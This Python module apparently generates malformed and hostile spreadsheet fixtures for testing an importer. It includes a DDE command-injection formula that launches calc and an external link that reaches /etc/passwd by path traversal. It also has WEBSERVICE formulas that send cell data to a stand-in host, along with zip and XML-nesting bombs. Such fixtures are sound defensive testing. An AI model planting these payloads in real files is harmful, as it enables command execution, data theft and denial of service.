"""Workbooks made to do harm: sizes that are none, bombs, numbers beyond all bounds, parts that lead elsewhere."""

import io
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from pathlib import Path
from typing import Any
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZipFile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/relationships"
LAST = "XFD1048576"
MEGABYTE = 1 << 20
WRONG_FONT = '<xf fontId="99999999999"/>'
HEADINGS = ("Ngày dọn", "Bãi biển", "Số bao", "Đơn vị")
FORM = "SKH1 FORM cleaning 3 021"
# what a cell may hold as XML, and no program of ours writes
CELLS: Mapping[str, str] = {
    "far": f'<c r="{LAST}"><v>1</v></c>',
    "beyond": '<c r="ZZZZZZ99999999999"><v>1</v></c>',
    "style": '<c r="A2" s="-1"><v>1</v></c>',
    "style of text": '<c r="A2" s="x"><v>1</v></c>',
    "no such text": '<c r="A2" t="s"><v>99999999</v></c>',
    "text -1": '<c r="A2" t="s"><v>-1</v></c>',
    "1e999": '<c r="A2"><v>1e999</v></c>',
    "nan": '<c r="A2"><v>nan</v></c>',
    "long": f'<c r="A2"><v>{"9" * 5000}</v></c>',
    "inf": '<c r="C2"><v>inf</v></c>',
    "minus": '<c r="C2"><v>-9223372036854775809</v></c>',
    "type": '<c r="A2" t="&#x202e;"><v>1</v></c>',
    "day": '<c r="A2" t="d"><v>99999-99-99</v></c>',
    "command": "<c r=\"B2\" t=\"str\"><f>cmd|' /C calc'!A0</f><v>=cmd|' /C calc'!A0</v></c>",
    "link": '<c r="B2" t="str"><f>[1]Sheet!A1</f><v>x</v></c>',
    "no value": '<c r="A2"><f>A2</f></c>',
    "signs": '<c r="B2" t="str"><v>a&#x202e;b&#xfeff;_x0000_c_x0007_</v></c>',
    "half a letter": '<c r="B2" t="str"><v>_xD800_</v></c>',
    "runs": f'<c r="B2" t="inlineStr"><is>{"<r><t>x</t></r>" * 5000}</is></c>',
}


def workbook(path: Path, sheet: str, *, method: int = ZIP_DEFLATED, **parts: bytes) -> None:
    """An XLSX of one sheet, whose XML is given; `parts` by the ends of their names."""
    relation = f'<Relationship Id="r{{}}" Type="{RELATIONS}/{{}}" Target="{{}}"/>'
    root, names = (
        relation.format(1, "officeDocument", "xl/workbook.xml"),
        '<sheets><sheet name="a" r:id="r1"/></sheets>',
    )
    written = {
        "_rels/.rels": f'<Relationships xmlns="{TYPES}">{root}</Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}">{names}</workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{TYPES}">'
        + "".join(
            relation.format(n, *of)
            for n, of in enumerate(
                (
                    ("worksheet", "sheet.xml"),
                    ("styles", "styles.xml"),
                    ("sharedStrings", "strings.xml"),
                    ("externalLink", "../../../../etc/passwd"),
                ),
                1,
            )
        )
        + "</Relationships>",
        "xl/sheet.xml": f'<worksheet xmlns="{MAIN}">{sheet}</worksheet>',
    }
    with ZipFile(path, "w", method) as packed:
        for name, text in written.items():
            packed.writestr(name, text)
        for name, raw in parts.items():
            packed.writestr(f"xl/{name}.xml", raw)


def rows(*more: str, heading: bool = True) -> str:
    cells = "".join(f'<c t="str"><v>{name}</v></c>' for name in HEADINGS)
    top = f'<row r="1">{cells}</row>' if heading else ""
    return f"<sheetData>{top}{''.join(more)}</sheetData>"


def book_cases() -> Iterator[tuple[str, Callable[[Path], Any]]]:
    for name, cell in CELLS.items():
        yield f"book cell {name}", partial(_book, rows(f'<row r="2">{cell}</row>'))
    for name, sheet in _sheets().items():
        yield f"book {name}", partial(_book, sheet)
    for name in ("strings", "styles", "sheet2"):
        yield f"book many elements {name}", partial(_full_of_elements, name)
    yield "book one long text", partial(_book, rows(f'<row r="2"><c t="str"><v>{"a" * 5 * MEGABYTE}</v></c></row>'))
    yield "book many sheets", _many_sheets
    yield "book styles of no number", partial(_styled, "<numFmts><numFmt numFmtId='x'/></numFmts>")
    yield "book styles", partial(_styled, f"<cellXfs>{WRONG_FONT * 1000}</cellXfs>")
    for method in (ZIP_BZIP2, ZIP_LZMA):
        yield f"book packed {method}", partial(_book, rows(), method=method)
        for seed in (60, 200, 333, 700):
            yield f"book packed {method} spoilt {seed}", partial(_spoilt, method, seed)
    for name, change in _open_documents().items():
        yield f"open document {name}", partial(_open_document, change)
    for name, text in _texts().items():
        yield f"text {name}", partial(_text, text)


def _book(sheet: str, path: Path, *, method: int = ZIP_DEFLATED) -> None:
    workbook(path, sheet, method=method)


def _sheets() -> dict[str, str]:
    far = f'<row r="1048576"><c r="{LAST}"><v>1</v></c></row>'
    merged = "".join(f'<mergeCell ref="A1:{LAST}"/>' for _ in range(2000))
    hidden = '<col min="1" max="16384" hidden="1"/>'
    form = f'<row r="1"><c t="str"><v>{FORM}</v></c></row>'
    numbered = "".join(f'<row r="{n}"><c t="str"><v>{n % 3}</v></c></row>' for n in range(2, 3000))
    return {
        "merged all over": rows(far) + f'<mergeCells><mergeCell ref="A1:{LAST}"/></mergeCells>',
        "merged many times": rows('<row r="400"><c r="ZZ400"><v>1</v></c></row>')
        + f"<mergeCells>{merged}</mergeCells>",
        "hidden many times": f"<cols>{hidden * 20_000}</cols>{rows()}",
        "dimension": f'<dimension ref="A1:{LAST}"/>{rows(far)}',
        "row numbers": rows('<row r="-5"><c r="A1"><v>1</v></c></row>', f'<row r="{"9" * 400}"><c><v>1</v></c></row>'),
        "row number too long": rows(f'<row r="{"9" * 5000}"><c><v>1</v></c></row>'),
        "deep": rows(f'<row r="2">{"<c>" * 20_000}{"</c>" * 20_000}</row>'),
        "wide": rows(f'<row r="2">{"<c><v>1</v></c>" * 16_384}</row>'),
        "form": rows(form, numbered, heading=False),
        "form twice": rows(form, form, numbered),
        "formulas": rows(
            *(f'<row r="{n}"><c><f>WEBSERVICE("http://x/"&amp;A1)</f><v>{n}</v></c></row>' for n in range(2, 500))
        ),
    }


def _full_of_elements(part: str, path: Path) -> None:
    """A part of 20 million empty elements, which packs to almost nothing."""
    head, end = f'<a xmlns="{MAIN}">'.encode(), b"</a>"
    workbook(path, rows())
    with ZipFile(path, "a", ZIP_DEFLATED) as packed, packed.open(f"xl/{part}.xml", "w", force_zip64=True) as member:
        member.write(head)
        for _ in range(80):
            member.write(b"<b/>" * (MEGABYTE // 4))
        member.write(end)


def _many_sheets(path: Path) -> None:
    """A thousand sheets that are one part."""
    workbook(path, rows(*('<row><c t="str"><v>x</v></c></row>' for _ in range(3000))))
    raw = path.read_bytes()
    with ZipFile(io.BytesIO(raw)) as old, ZipFile(path, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, content.replace(b'<sheet name="a" r:id="r1"/>', b'<sheet name="a" r:id="r1"/>' * 1000))


def _styled(styles: str, path: Path) -> None:
    workbook(
        path,
        rows('<row r="2"><c r="A2" s="0"><v>1</v></c></row>'),
        styles=f'<styleSheet xmlns="{MAIN}">{styles}</styleSheet>'.encode(),
    )


def _spoilt(method: int, place: int, path: Path) -> None:
    """One packed byte after another in its middle is turned."""
    workbook(path, rows(*(f'<row r="{n}"><c><v>{n * 7919}</v></c></row>' for n in range(2, 400))), method=method)
    raw = bytearray(path.read_bytes())
    for at in range(place, min(place + 40, len(raw) - 30)):
        raw[at] ^= 0x55
    path.write_bytes(raw)


# --- open documents, texts --------------------------------------------------------------------------------------------


def _open_documents() -> dict[str, str]:
    cell = '<c office:value-type="{}" {}><text:p>{}</text:p></c>'.replace("<c ", "<table:table-cell ").replace(
        "</c>", "</table:table-cell>"
    )
    row = "<table:table-row {}>{}</table:table-row>"
    one = cell.format("string", "", "x")
    deep = "<text:span>" * 3000 + "x" + "</text:span>" * 3000
    return {
        "rows": row.format('table:number-rows-repeated="1048576"', one * 40),
        "rows without end": row.format(f'table:number-rows-repeated="{"9" * 30}"', one),
        "rows below nothing": row.format('table:number-rows-repeated="-7"', one),
        "columns": row.format("", cell.format("string", f'table:number-columns-repeated="{"9" * 30}"', "x")),
        "spans": row.format(
            "",
            cell.format("string", 'table:number-columns-spanned="99999999" table:number-rows-spanned="99999999"', "x"),
        )
        + row.format('table:number-rows-repeated="30000"', one * 30),
        "infinite": row.format("", cell.format("float", 'office:value="1e999"', "1")),
        "no number": row.format("", cell.format("float", 'office:value="nan"', "1")),
        "day": row.format("", cell.format("date", 'office:date-value="-0001-01-01"', "1")),
        "day too late": row.format("", cell.format("date", 'office:date-value="9999-12-31T23:59:59.999999999"', "1")),
        "half a letter": row.format("", cell.format("string", "", "&#xD800;")),
        "deep": row.format("", cell.format("string", "", deep)),
        "blanks": row.format("", cell.format("string", "", '<text:s text:c="99999999"/>' * 2000)),
    }


def _open_document(content: str, path: Path) -> None:
    spaces = "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    with ZipFile(path, "w", ZIP_DEFLATED) as packed:
        packed.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        packed.writestr(
            "content.xml",
            f"<office:document-content{spaces}><office:body><office:spreadsheet>"
            f'<table:table table:name="a">{content}</table:table>'
            "</office:spreadsheet></office:body></office:document-content>",
        )


def _texts() -> dict[str, bytes]:
    head = ";".join(HEADINGS).encode()
    return {
        "long field": head + b"\n" + b"a" * 300_000,
        "open quote": head + b'\n"' + b"x;\n" * 100_000,
        "many columns": head + b"\n" + b";" * 300_000 + b"x",
        "nul": head + b"\na\0b;c;1;d\n",
        "nuls late": head + b"\n" + b"x;y;1;z\n" * 1000 + b"\0" * 5000,
        "utf-16": head.decode().encode("utf-16") + b"\n",
        "half utf-16": b"\xff\xfea",
        "carriage returns": head + b"\r" + b"x;y;1;z\r" * 500,
        "numbers": head + b"\n" + b"9" * 5000 + b";x;" + b"9" * 5000 + b";021\n1e999;nan;inf;-0\n",
        "separator": b"sep=\r\n" + head,
        "separator none": "sep=\u202e\r\n".encode() + head,
    }


def _text(raw: bytes, path: Path) -> None:
    path.write_bytes(raw)
